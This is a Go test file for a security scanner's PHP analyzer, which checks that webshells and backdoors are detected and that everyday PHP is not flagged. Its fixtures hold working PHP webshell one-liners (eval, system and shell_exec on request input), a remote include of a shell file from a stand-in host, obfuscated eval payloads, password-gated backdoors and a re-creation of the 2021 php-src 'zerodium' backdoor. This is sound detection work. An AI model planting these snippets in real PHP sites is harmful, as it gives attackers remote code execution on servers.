package phpbehavior

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/finding"
)

func scan(t *testing.T, src string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{pkgmeta.Analyzer, Analyzer}, map[string]string{"web/x.php": src})
}

// Inert re-creations of webshells and backdoors.
var positives = []struct{ rule, src string }{
	{"DM-PHP-001", `<?php @eval($_POST['x']); ?>`},
	{"DM-PHP-001", `<?php eval(base64_decode($_POST['c']));`},
	{"DM-PHP-001", "<?php\n$f = $_GET['f'];\n$f($_GET['a']);\n"},
	{"DM-PHP-001", `<?php $_GET['f']($_GET['a']);`},
	{"DM-PHP-001", "<?php $c = $_REQUEST['cmd'];\n$o = $c;\necho shell_exec($o);\n"},
	{"DM-PHP-001", "<?php echo `ls {$_GET['d']}`;"},
	{"DM-PHP-001", `<?php system("ping -c1 " . $_COOKIE['h']);`},
	{"DM-PHP-001", `<?php $h = getallheaders(); assert($h['X-Run']);`},
	{"DM-PHP-001", `<?php preg_replace('/.*/e', $_POST['r'], '');`},
	{"DM-PHP-001", `<?php include $_GET['page'];`},
	{"DM-PHP-001", `<?php call_user_func($_GET['fn'], $_GET['arg']);`},
	{"DM-PHP-001", `<?php eval('?>' . file_get_contents('php://input'));`},
	{"DM-PHP-001", "<?php foreach ($_POST as $k => $v) { passthru($v); }"},
	{"DM-PHP-002", `<?php include 'http://192.0.2.1/shell.txt';`},
	{"DM-PHP-003", `<?php eval(gzinflate(base64_decode('81TITM7PT0tVSMsvUkhKzAHRAA==')));`},
	{"DM-PHP-003", `<?php $p = str_rot13('riny'); $d = base64_decode('ZWNobyAxOw=='); eval($d);`},
	{"DM-PHP-003", "<?php $s = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);\n$s('id');\n"},
	{"DM-PHP-003", "<?php eval('" + strings.Repeat("QWxhZGRpbjpvcGVuIHNlc2FtZQ9xYz", 10) + "');"},
	{"DM-PHP-004", "<?php if ($_POST['pass'] == 'letmein-2024') { $_SESSION['admin'] = true; }"},
	{"DM-PHP-004", "<?php if (md5($_COOKIE['k']) === '5d41402abc4b2a76b9719d911017c592') { system($_COOKIE['c']); }"},
	{"DM-PHP-004", "<?php if (strcmp($_GET['password'], 'Sup3rS3cret') == 0) echo 'ok';"},
}

func TestPositives(t *testing.T) {
	for _, tc := range positives {
		rep := scan(t, tc.src)
		if len(analyzertest.Find(rep, tc.rule, "x.php")) == 0 {
			t.Errorf("%s not found in %q; got %v", tc.rule, tc.src, analyzertest.Rules(rep))
		}
	}
}

// The php-src backdoor of March 2021, re-created in PHP: the header is
// evaluated (RCE) behind a magic prefix (hidden trigger).
func TestZerodium(t *testing.T) {
	rep := scan(t, "<?php\nif (strpos($_SERVER['HTTP_USER_AGENTT'], 'zerodium') === 0) {\n    eval(substr($_SERVER['HTTP_USER_AGENTT'], 8));\n}\n")
	rce := analyzertest.Find(rep, "DM-PHP-001", "x.php")
	trig := analyzertest.Find(rep, "DM-PHP-004", "x.php")
	if len(rce) != 1 || len(trig) != 1 || rce[0].Location.Line != 3 || rce[0].Severity != finding.Critical {
		t.Fatalf("got %+v", rep.Findings)
	}
	if strings.Contains(trig[0].Evidence, "zerodium") {
		t.Errorf("magic value not masked: %s", trig[0].Evidence)
	}
}

// Near misses from WordPress, Laravel and everyday PHP: none reported.
var nearMisses = []string{
	`<?php $id = intval($_GET['id']); $wpdb->get_results($wpdb->prepare("SELECT * FROM t WHERE id = %d", $id));`,
	`<?php exec('convert ' . escapeshellarg($_FILES['img']['tmp_name']) . ' out.png', $out);`,
	`<?php $n = (int)$_GET['n']; system("seq $n");`,
	`<?php if (password_verify($_POST['pass'], $user->hash)) { $_SESSION['uid'] = $user->id; }`,
	`<?php if ($_POST['action'] == 'delete') { delete_item($id); }`,
	`<?php if ($_SERVER['HTTP_X_REQUESTED_WITH'] == 'XMLHttpRequest') { echo json_encode($data); }`,
	`<?php if ($_POST['password'] !== $_POST['password_confirm']) { $errors[] = 'mismatch'; }`,
	`<?php $img = '<img src="data:image/png;base64,` + strings.Repeat("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", 5) + `">'; echo $img;`,
	`<?php $pdo->exec("DELETE FROM sessions WHERE expires < NOW()");`,
	`<?php echo base64_decode($row['avatar']);`,
	// A template engine's compiled cache evaluates its own output.
	`<?php $compiled = file_get_contents($cachePath); eval('?>' . $compiled);`,
	`<?php assert($count > 0); $cb = 'strtoupper'; echo $cb('x');`,
	"<html><body><?= htmlspecialchars($_GET['q']) ?></body></html>",
	"<?php\n$sql = <<<SQL\nSELECT * FROM t WHERE a = '{$_GET['x']}'\nSQL;\n// eval($_GET['x']) in a comment\n/* system($_POST['c']); */\n",
	`<?php Route::get('/', function () { return view('welcome'); });`,
}

func TestNearMisses(t *testing.T) {
	for _, src := range nearMisses {
		if rep := scan(t, src); len(rep.Findings) != 0 {
			t.Errorf("false positive in %q: %+v", src, rep.Findings)
		}
	}
}

func TestHostile(t *testing.T) {
	for _, src := range []string{
		"<?php " + strings.Repeat("(", 200000),
		"<?php eval(" + strings.Repeat("base64_decode(", 50000),
		"<?php $x = \"" + strings.Repeat("{$a", 10000),
		"<?php $x = <<<EOT\nunterminated " + strings.Repeat("$_GET[a] ", 1000),
		"<?php '" + strings.Repeat("a", 10<<20),
		"<?php /* unterminated",
		strings.Repeat("<?php ?>", 100000),
	} {
		toks := lex([]byte(src))
		f := &file{toks: toks, tainted: map[string]string{}, consts: map[string]string{}, decoded: map[string]string{}}
		f.match = matches(toks)
		_ = f
	}
	rep := scan(t, "<?php eval("+strings.Repeat("base64_decode(", 50000)+"$_GET['x']"+strings.Repeat(")", 50000)+");")
	if len(rep.Findings) == 0 {
		t.Errorf("deep nesting hid the sink")
	}
}
